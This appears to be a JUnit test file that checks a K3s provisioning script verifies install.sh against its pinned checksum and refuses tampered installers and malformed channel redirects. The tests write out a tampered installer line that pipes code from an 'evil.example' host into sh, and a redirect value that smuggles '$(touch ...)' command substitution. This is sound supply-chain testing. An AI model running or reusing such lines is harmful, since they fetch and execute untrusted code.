import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.security.MessageDigest;
import java.util.HashMap;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A machine that downloads K3s itself (plain `vagrant up`, --no-host-cache) takes install.sh from
 * K3s's repository at the release's tag and checks it against install.sh.sha256sum there, as the
 * host does (K3sRelease), never whatever get.k3s.io serves; a channel is first resolved to its tag.
 * server.sh runs with curl standing in for the internet (a folder of URLs) and the installer
 * served being a stand-in that records its run.
 */
class InstallerCheckTest {
    static final String VERSION = "v1.31.4+k3s1";
    static final String INSTALLER = "https://raw.githubusercontent.com/k3s-io/k3s/v1.31.4%2Bk3s1/install.sh";
    static final String CHANNELS = "https://update.k3s.io/v1-release/channels/";

    @TempDir Path tmp;

    @Test
    void aVersionsInstallerComesFromItsTagAndRunsOnceItsChecksumMatches() throws IOException {
        Path recorded = tmp.resolve("runs");
        serveInstaller(site(), installerRecordingTo(recorded), null);
        Repo.Run run = server(Map.of("INSTALL_K3S_VERSION", VERSION));
        assertTrue(run.stderr().contains("K3s's installer failed"), "stops at the installer stand-in: "
            + run.stderr());
        assertEquals(List.of(INSTALLER + ".sha256sum", INSTALLER), requested(), run.stderr());
        assertEquals(List.of("version=" + VERSION), Files.readAllLines(recorded));
    }

    @Test
    void aTamperedInstallerIsRefusedNamingTheFixAndNothingRuns() throws IOException {
        Path recorded = tmp.resolve("runs");
        String genuine = installerRecordingTo(recorded);
        serveInstaller(site(), genuine + "curl -s https://evil.example/x | sh\n", sha256(genuine));
        Repo.Run run = server(Map.of("INSTALL_K3S_VERSION", VERSION));
        assertNotEquals(0, run.exit());
        String expected = "ERROR: install.sh from " + INSTALLER + " does not match its checksum (sha256 ";
        assertTrue(run.stderr().contains(expected) && run.stderr().contains("expected " + sha256(genuine))
            && run.stderr().contains("K3s was not installed") && run.stderr().contains("without --no-host-cache")
            && run.stderr().contains("K3S_VAGRANT_AIRGAP_DIR"), run.stderr());
        assertFalse(Files.exists(recorded), "the tampered installer never ran");
    }

    @Test
    void aChannelIsResolvedToItsTagWhoseInstallerIsCheckedAndInstalled() throws IOException {
        Path site = site();
        // as update.k3s.io does: the channel leads to the release's page, the tag's '+' escaped
        Files.writeString(Files.createDirectories(at(site, CHANNELS)).resolve("v1.31.redirect"),
            "https://github.com/k3s-io/k3s/releases/tag/v1.31.4%2Bk3s1");
        Path recorded = tmp.resolve("runs");
        serveInstaller(site, installerRecordingTo(recorded), null);
        Repo.Run run = server(Map.of("INSTALL_K3S_CHANNEL", "v1.31"));
        assertEquals(List.of(CHANNELS + "v1.31", INSTALLER + ".sha256sum", INSTALLER), requested(), run.stderr());
        assertTrue(run.stderr().contains("channel v1.31 is " + VERSION), run.stderr());
        assertEquals(List.of("version=" + VERSION), Files.readAllLines(recorded), "the installer installs that tag");
    }

    @Test
    void aChannelLeadingToNoVersionIsRefused() throws IOException {
        Path ran = tmp.resolve("ran");
        Files.writeString(Files.createDirectories(at(site(), CHANNELS)).resolve("stable.redirect"),
            "https://github.com/k3s-io/k3s/releases/tag/$(touch " + ran + ")");
        Repo.Run run = server(Map.of()); // neither version nor channel: K3s's default channel, stable
        assertNotEquals(0, run.exit());
        assertTrue(run.stderr().contains("ERROR: " + CHANNELS + "stable led to no K3s version: set "
            + "K3S_VAGRANT_K3S_VERSION"), run.stderr());
        assertEquals(List.of(CHANNELS + "stable"), requested(), "nothing fetched after it");
        assertFalse(Files.exists(ran), "what the channel sent is data, never run");
    }

    @Test
    void aChecksumFileWithoutInstallShIsRefused() throws IOException {
        Path recorded = tmp.resolve("runs");
        serveInstaller(site(), installerRecordingTo(recorded), null);
        Files.writeString(at(site(), INSTALLER + ".sha256sum"), sha256("x") + "  k3s\n");
        Repo.Run run = server(Map.of("INSTALL_K3S_VERSION", VERSION));
        assertTrue(run.stderr().contains("ERROR: " + INSTALLER + ".sha256sum lists no install.sh"), run.stderr());
        assertFalse(Files.exists(recorded));
    }

    @Test
    void theMachinesTakeInstallShFromWhereTheHostDoes() throws IOException {
        // one address in two languages: the script's must stay K3sRelease's
        String script = Files.readString(Repo.root().resolve("provision/k3s-common.sh"));
        assertTrue(script.contains("\nINSTALLER_URL='" + K3sRelease.INSTALLER + "'\n"), K3sRelease.INSTALLER);
        assertFalse(script.contains("https://get.k3s.io"), "no unpinned installer");
    }

    // ---------------------------------------------------------------- the stand-ins

    /** The folder the curl stand-in serves: URL host/path to file; a PATH.redirect file: where PATH leads. */
    private Path site() throws IOException {
        return Files.createDirectories(tmp.resolve("site"));
    }

    private static Path at(Path site, String url) {
        return site.resolve(url.substring(url.indexOf("://") + 3));
    }

    /** Serves script as the tag's install.sh, with sha256 sum (null: the script's own) beside it. */
    static void serveInstaller(Path site, String script, String sum) throws IOException {
        Path file = at(site, INSTALLER);
        Files.createDirectories(file.getParent());
        Files.writeString(file, script);
        Files.writeString(at(site, INSTALLER + ".sha256sum"), (sum != null ? sum : sha256(script)) + "  install.sh\n");
    }

    /** An installer stand-in recording the version it was asked to install, then failing (stops server.sh). */
    static String installerRecordingTo(Path recorded) {
        return "#!/bin/sh\nprintf 'version=%s\\n' \"$INSTALL_K3S_VERSION\" >> " + recorded + "\nexit 1\n";
    }

    static String sha256(String text) {
        try {
            return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256")
                .digest(text.getBytes(StandardCharsets.UTF_8)));
        } catch (java.security.NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }

    /** The URLs curl was asked for, in order. */
    private List<String> requested() throws IOException {
        Path log = tmp.resolve("curl.log");
        return Files.exists(log) ? Files.readAllLines(log) : List.of();
    }

    private Repo.Run server(Map<String, String> settings) throws IOException {
        Map<String, String> env = new HashMap<>(environment(tmp, site(), tmp.resolve("curl.log")));
        env.putAll(settings);
        return Repo.exec(List.of("bash", Repo.root().resolve("provision/server.sh").toString()), tmp, env, null, 60);
    }

    /**
     * server.sh's settings with curl serving site (each URL asked for logged), `install` and
     * `getent` (a vagrant group) standing in; no version or channel of the caller's.
     */
    static Map<String, String> environment(Path tmp, Path site, Path curlLog) throws IOException {
        Path bin = Files.createDirectories(tmp.resolve("stubs"));
        script(bin.resolve("install"), "[ \"$1\" = -m ] && cp \"$3\" \"$4\" && chmod 755 \"$4\"; exit 0");
        script(bin.resolve("getent"), "[ \"$*\" = 'group vagrant' ]");
        script(bin.resolve("curl"), """
            out=; format=; url=; prev=
            for a; do
              case $prev in -o) out=$a ;; -w) format=$a ;; esac
              case $a in http://* | https://*) url=$a ;; esac
              prev=$a
            done
            echo "$url" >> "$CURL_LOG"
            path=$CURL_SITE/${url#*://}
            if [ -f "$path.redirect" ]; then body=/dev/null; effective=$(cat "$path.redirect")
            elif [ -f "$path" ]; then body=$path; effective=$url
            else exit 22; fi
            if [ -n "$out" ]; then cat "$body" > "$out"; else cat "$body"; fi
            if [ "$format" = '%{url_effective}' ]; then printf '%s' "$effective"; fi
            exit 0""");
        Map<String, String> env = new HashMap<>(Map.of("PATH", bin + ":" + System.getenv("PATH"),
            "NODE_IP", "127.0.0.1", "FLANNEL_IFACE", "lo", "K3S_TOKEN", "t", "API_WAIT", "5",
            "CURL_SITE", site.toString(), "CURL_LOG", curlLog.toString(),
            "INSTALL_K3S_VERSION", "", "INSTALL_K3S_CHANNEL", ""));
        env.put("INSTALL_K3S_BIN_DIR", Files.createDirectories(tmp.resolve("bin-dir")).toString());
        return env;
    }

    private static void script(Path file, String body) throws IOException {
        Files.writeString(file, "#!/bin/sh\n" + body + "\n");
        Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rwxr-xr-x"));
    }
}
